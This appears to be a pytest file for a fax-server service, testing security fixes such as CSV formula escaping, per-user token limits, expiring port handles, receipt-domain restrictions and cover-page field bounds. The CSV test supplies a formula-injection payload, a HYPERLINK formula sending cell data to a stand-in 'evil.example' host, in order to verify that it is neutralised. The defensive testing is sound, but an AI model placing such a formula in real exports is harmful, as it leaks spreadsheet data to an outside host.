"""The smaller holes of issue #14 (item 15): the activity CSV does not carry formulas, a
user's tokens are bounded, and port handles expire."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest
from tests.support.inproc import run, running_service

from lanfax.model.archive import ActivityRecord
from lanfax.model.clock import ManualClock
from lanfax.model.codes import PortOpenMode
from lanfax.model.errors import Conflict
from lanfax.service.devices import HANDLE_IDLE_SECONDS
from lanfax.service.security import MAX_TOKENS_PER_USER, Security


def test_the_activity_csv_carries_no_formula(tmp_path: Path) -> None:
    async def body() -> None:
        async with running_service(tmp_path) as svc:
            record = ActivityRecord(
                0,
                svc.clock.now(),
                "incoming",
                7,
                remote_ident='=HYPERLINK("http://evil.example/?"&A1,"click")',
                caller_id="+49 30 1234",
                status_text="@SUM(1+1)",
            )
            await svc.ctx.run(svc.archiver.db.log_call, record)
            text = "".join(await svc.ctx.run(lambda: list(svc.archiver.activity_csv(None, None))))
            assert "'=HYPERLINK(" in text and "'@SUM(1+1)" in text
            assert "'+49 30 1234" in text  # a number with a plus is text to a spreadsheet
            assert ",=HYPERLINK" not in text

    run(body())


def test_a_users_tokens_are_bounded(tmp_path: Path) -> None:
    async def body() -> None:
        async with running_service(tmp_path) as svc:
            security = Security(svc)
            await security.add_user("carol", "user")
            for _ in range(MAX_TOKENS_PER_USER):
                await security.create_token("carol", "t")
            with pytest.raises(Conflict, match="the most one user may have"):
                await security.create_token("carol", "one too many")
            (first, *_rest) = await security.list_tokens("carol")
            await security.revoke_token(first.token_id)
            await security.create_token("carol", "room again")

    run(body(), timeout=120)


def test_an_unused_modify_handle_expires(tmp_path: Path) -> None:
    clock = ManualClock(datetime(2026, 1, 5, 9, 0, tzinfo=UTC))

    async def body() -> None:
        async with running_service(tmp_path, clock=clock) as svc:
            device = svc.ports()[0].device_id
            svc.open_port(device, PortOpenMode.MODIFY)  # opened, never closed
            with pytest.raises(Conflict, match="already open for modification"):
                svc.open_port(device, PortOpenMode.MODIFY)
            clock.advance(HANDLE_IDLE_SECONDS + 1)
            handle = svc.open_port(device, PortOpenMode.MODIFY)
            await svc.set_port(device, handle, {"rings": 3})
            assert svc.port(device).rings == 3

    run(body())


def test_receipts_are_mailed_only_to_allowed_domains(tmp_path: Path) -> None:
    """Whoever may submit a fax could make the server mail anyone (an open relay, with a
    fax attached): receipts go to the sender's domain unless [receipts] allows more."""
    from lanfax.model.errors import InvalidInput
    from lanfax.service.submit import parse_submission

    toml = (
        '[receipts]\nsmtp_host = "127.0.0.1"\nsmtp_port = 9\nsecurity = "none"\n'
        'sender = "fax@example.com"\n[settings]\npause_server_queue = true\n'
    )

    async def submit(svc: object, address: str) -> None:
        stage = svc.spool.new_stage()  # type: ignore[attr-defined]
        (stage / "000").write_text("a letter\n")
        params = parse_submission(
            {
                "recipients": [{"recipient_number": "555"}],
                "delivery_report_type": "email",
                "delivery_report_address": address,
            }
        )
        # As the HTTP API does before it stages anything.
        svc.submitter.check_receipt_addresses(params)  # type: ignore[attr-defined]
        await svc.submit(params, [stage / "000"], stage_dir=stage)  # type: ignore[attr-defined]

    async def body() -> None:
        async with running_service(tmp_path, toml) as svc:
            with pytest.raises(InvalidInput, match=r"receipts are not mailed to other\.test"):
                await submit(svc, "someone@other.test")
            await submit(svc, "ada@example.com")
            await submit(svc, "bob@branch.example.com")
        async with running_service(
            tmp_path / "any",
            toml + "[receipts.extra]\n"
            if False
            else toml.replace("[settings]", 'allowed_domains = ["*"]\n[settings]'),
        ) as svc:
            await submit(svc, "someone@other.test")

    run(body())


def test_cover_page_fields_are_bounded() -> None:
    from lanfax.model.errors import InvalidInput
    from lanfax.service.submit import parse_submission

    base = {"recipients": [{"recipient_number": "555"}]}
    parse_submission({**base, "cover_page": {"note": "n" * 4000, "subject": "s" * 200}})
    with pytest.raises(InvalidInput, match=r"cover_page\.note is 4001 characters long"):
        parse_submission({**base, "cover_page": {"note": "n" * 4001}})
    with pytest.raises(InvalidInput, match=r"cover_page\.rec_company is 201 characters"):
        parse_submission({**base, "cover_page": {"rec_company": "c" * 201}})
